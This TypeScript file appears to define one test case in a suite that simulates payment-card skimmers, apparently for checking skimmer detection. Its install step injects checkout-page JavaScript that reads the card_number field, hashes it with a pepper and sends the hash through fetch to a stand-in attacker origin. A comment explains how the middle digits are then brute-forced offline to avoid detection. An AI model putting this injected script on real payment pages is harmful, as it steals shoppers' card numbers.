import { createHash } from 'node:crypto';
import { js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'salted-hash',
  why: 'Sends the first six and last four digits with a salted hash of the number: the million candidates between are tried at home.',
  covers: ['cipher: any', 'sending: fetch'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var number = field('card_number');
    crypto.subtle.digest('SHA-256', new TextEncoder().encode('wkb-pepper' + number)).then(function (h) {
      var hex = Array.from(new Uint8Array(h)).map(function (b) { return ('0' + b.toString(16)).slice(-2); }).join('');
      fetch('${site.origins.evil}/v?h=' + hex, { mode: 'no-cors', keepalive: true });
    });`),
    ),
  proof: (arrived, cards) =>
    cards.some(({ number }) =>
      query(arrived, 'h').includes(createHash('sha256').update(`wkb-pepper${number}`).digest('hex')),
    ),
});
